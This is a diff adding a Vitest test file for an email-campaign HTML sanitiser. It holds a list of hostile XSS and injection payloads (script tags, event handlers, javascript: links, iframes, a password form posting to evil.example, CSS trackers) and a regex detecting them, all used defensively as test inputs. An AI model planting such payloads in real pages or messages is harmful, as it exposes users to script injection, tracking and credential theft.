@@ -1,0 +1,95 @@
+import { describe, expect, it } from 'vitest'
+import { renderBulkTemplate } from '#emails/render-bulk.ts'
+import { sanitiseHtml } from '#server/features/campaigns/sanitise-html.ts'
+
+/** Each would run, load, lead or lie somewhere it must not. */
+const HOSTILE: [string, string][] = [
+  ['a script', '<p>Hi</p><script>alert(1)</script>'],
+  ['a script in odd letters', '<p>Hi</p><ScRiPt src=//evil.example></sCrIpT>'],
+  ['a handler', '<p onmouseover="alert(1)">Hi</p>'],
+  ['a handler without quotes', '<img src=https://a.example/x.png onerror=alert(1)>Hi'],
+  ['a javascript link', '<a href="javascript:alert(1)">Hi</a>'],
+  ['a javascript link with a line break', '<a href="java\nscript:alert(1)">Hi</a>'],
+  ['a javascript link in entities', '<a href="&#106;avascript:alert(1)">Hi</a>'],
+  ['a vbscript link', '<a href="vbscript:x">Hi</a>'],
+  ['a data link', '<a href="data:text/html;base64,PHNjcmlwdD4=">Hi</a>'],
+  ['a link without scheme', '<a href="//evil.example">Hi</a>'],
+  ['a data image', '<img src="data:image/svg+xml;base64,PHN2Zz4=">Hi'],
+  ['an image over http', '<img src="http://tracker.example/x.gif">Hi'],
+  ['a frame', '<iframe src="https://evil.example"></iframe>Hi'],
+  ['a frame with a document in it', '<iframe srcdoc="<script>alert(1)</script>"></iframe>Hi'],
+  ['an object', '<object data="x"></object><embed src="x">Hi'],
+  ['a form', '<form action="https://evil.example"><input name="password"></form>Hi'],
+  ['svg', '<svg onload="alert(1)"><circle /></svg>Hi'],
+  ['math', '<math><mtext><script>alert(1)</script></mtext></math>Hi'],
+  ['a base', '<base href="https://evil.example/">Hi'],
+  ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">Hi'],
+  ['a style sheet', '<style>body{display:none}</style><link rel="stylesheet" href="//evil.example">Hi'],
+  ['a style that covers the page', '<p style="position:fixed;top:0;z-index:9">Hi</p>'],
+  ['a style that loads', '<p style="background:url(https://tracker.example/x)">Hi</p>'],
+  ['an expression', '<p style="width:expression(alert(1))">Hi</p>'],
+  ['an import', '<p style="@import \'//evil.example\'">Hi</p>'],
+  ['a conditional comment', '<!--[if mso]><script>alert(1)</script><![endif]-->Hi'],
+  ['a template', '<template><script>alert(1)</script></template>Hi'],
+  ['a comment that swallows', '<!-- <p>Hi</p> --><p>Hi</p>'],
+  ['half a tag', '<p>Hi</p><img src=x onerror="alert(1)"'],
+  ['a tag in a tag', '<scr<script>ipt>alert(1)</scr</script>ipt>Hi'],
+]
+
+const DANGEROUS =
+  /<(script|iframe|object|embed|form|input|svg|math|base|meta|link|style|template)|\son\w+=|javascript:|vbscript:|data:|\burl\(|expression\(|position|http:\/\/tracker|\/\/evil|<!--/i
+
+describe('sanitiseHtml', () => {
+  it.each(HOSTILE)('takes the sting out of %s and keeps the words', async (_name, html) => {
+    const clean = await sanitiseHtml(html)
+    // What is left of broken markup as text is escaped, and so runs nowhere.
+    expect(clean.replace(/&lt;[^<]*/g, '')).not.toMatch(DANGEROUS)
+    expect(clean).toContain('Hi')
+  })
+
+  it.each([
+    ['<h1>Fog</h1><p>Two <strong>words</strong> and <em>one</em></p>'],
+    ['<ul><li>One</li></ul><ol start="3"><li>Three</li></ol>'],
+    ['<table width="100%"><tbody><tr><td align="right">£60.00</td></tr></tbody></table>'],
+    ['<img src="https://shop.example.com/fog.png" alt="Fog" width="300" />'],
+    ['<p style="color:#13202b;margin:14px 0 0">Dark</p>'],
+  ])('leaves %s as it is', async (html) => {
+    expect(await sanitiseHtml(html)).toBe(html)
+  })
+
+  it('lets a link neither steer the page it came from nor lose its place', async () => {
+    const clean = await sanitiseHtml('<a href="https://shop.example.com/a?b=1&amp;c=2" target="_top">See</a>')
+    expect(clean).toBe(
+      '<a href="https://shop.example.com/a?b=1&amp;c=2" target="_blank" rel="noopener">See</a>',
+    )
+  })
+
+  it('takes a whole page down to its content', async () => {
+    const page =
+      '<!doctype html><html><head><title>T</title><style>p{}</style></head><body><p>Hi</p></body></html>'
+    expect(await sanitiseHtml(page)).toBe('<p>Hi</p>')
+  })
+
+  it.each([['<script>x()</script>'], ['<p> </p>'], ['<style>p{}</style>'], ['<!-- nothing -->']])(
+    'says of %s that there is nothing in it',
+    async (html) => {
+      expect(await sanitiseHtml(html)).toBe('')
+    },
+  )
+
+  it('leaves the words, colours and button of our own templates', async () => {
+    const { html } = await renderBulkTemplate({
+      type: 'announcement',
+      title: 'Closed',
+      message: 'For a week.\nOr two.',
+      ctaText: 'See',
+      ctaUrl: 'https://shop.example.com/',
+    })
+    const clean = await sanitiseHtml(html)
+    expect(clean).toContain('<h1 class="ink"')
+    expect(clean).toContain('For a week.<br />Or two.')
+    expect(clean).toMatch(
+      /<a href="https:\/\/shop\.example\.com\/" class="go" style="[^"]*background:#a8135f/,
+    )
+  })
+})
